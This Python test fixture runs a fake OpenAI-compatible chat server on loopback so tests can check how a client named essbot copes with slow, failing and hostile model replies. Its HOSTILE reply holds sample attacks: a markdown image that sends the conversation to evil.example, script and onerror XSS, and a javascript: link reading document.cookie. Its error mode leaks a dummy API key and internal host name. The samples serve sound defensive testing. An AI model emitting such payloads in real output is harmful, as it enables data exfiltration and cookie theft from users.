"""A tiny OpenAI-compatible chat server (standard library, loopback) whose behaviour the question chooses.

* a question containing SLOW: one token every `slow_token_s`, for a long time (a slow or stuck LLM);
* HOSTILE: an answer full of markup and an uncited line (« PWNED. ») around one good cited sentence;
* BROKEN: HTTP 500 whose error text holds the API key and an internal host name;
* anything else: the first sentence of passage [1], cited, in a few deltas.

It counts the streams it finished and those whose client went away, so tests can see that essbot stops.
"""

from __future__ import annotations

import json
import re
import threading
import time
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

SECRET_KEY = "sk-test-0123456789abcdefSECRET"
INTERNAL_HOST = "llm-interne.prod.local"
HOSTILE_ANSWER = (
    "![logo](http://evil.example/steal.png?q=conversation) {sentence} [1]\n"
    '<img src=x onerror="alert(1)"> Voir [ce lien](javascript:alert(document.cookie)) <script>alert(2)</script>\n'
    "PWNED.\n"
)


@dataclass
class FakeLLM:
    url: str
    server: ThreadingHTTPServer
    slow_token_s: float = 0.1
    finished: int = 0
    aborted: int = 0
    requests: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)

    def count(self, name: str) -> None:
        with self.lock:
            setattr(self, name, getattr(self, name) + 1)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def first_passage_sentence(prompt: str) -> str:
    """The first sentence of passage [1] in essbot's prompt (the line after its `[1] title — section` header)."""
    match = re.search(r"<documents>\n\[1\][^\n]*\n([^\n]+)", prompt)
    text = match.group(1) if match else "Aucun passage."
    return re.split(r"(?<=[.!?])\s", text, maxsplit=1)[0].rstrip(".!? ")


def _chunk(content: str | None, finish: str | None = None) -> bytes:
    delta = {} if content is None else {"content": content}
    payload = {
        "id": "chatcmpl-fake",
        "object": "chat.completion.chunk",
        "created": int(time.time()),
        "model": "fake",
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
    }
    return f"data: {json.dumps(payload)}\n\n".encode()


def _handler(llm: FakeLLM) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: Any) -> None:
            pass

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers.get("content-length", "0"))))
            llm.count("requests")
            prompt = "\n".join(str(m.get("content", "")) for m in body.get("messages", []))
            question = prompt.rsplit("Question :", 1)[-1]
            if "BROKEN" in question:
                self._fail()
            elif "SLOW" in question:
                self._stream(["Le ", "préfet "] + ["attend "] * 3000, llm.slow_token_s)
            elif "HOSTILE" in question:
                answer = HOSTILE_ANSWER.format(sentence=first_passage_sentence(prompt))
                self._stream(re.findall(r"\S+\s*|\s+", answer), 0.0)
            else:
                self._stream(re.findall(r"\S+\s*", first_passage_sentence(prompt) + " [1]."), 0.0)

        def _fail(self) -> None:
            error = {
                "error": {
                    "message": f"Invalid API key {SECRET_KEY} for upstream http://{INTERNAL_HOST}:8080/v1",
                    "type": "server_error",
                }
            }
            data = json.dumps(error).encode()
            self.send_response(500)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def _stream(self, pieces: list[str], pause_s: float) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/event-stream")
            self.send_header("Connection", "close")
            self.end_headers()
            try:
                for piece in pieces:
                    self.wfile.write(_chunk(piece))
                    self.wfile.flush()
                    if pause_s:
                        time.sleep(pause_s)
                self.wfile.write(_chunk(None, "stop") + b"data: [DONE]\n\n")
                self.wfile.flush()
            except (BrokenPipeError, ConnectionResetError):
                llm.count("aborted")
                return
            llm.count("finished")
            self.close_connection = True

    return Handler


def start_fake_llm(slow_token_s: float = 0.1) -> FakeLLM:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _handler_placeholder())
    llm = FakeLLM(f"http://127.0.0.1:{server.server_address[1]}/v1", server, slow_token_s)
    server.RequestHandlerClass = _handler(llm)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, name="fake-llm", daemon=True).start()
    return llm


def _handler_placeholder() -> type[BaseHTTPRequestHandler]:
    return BaseHTTPRequestHandler
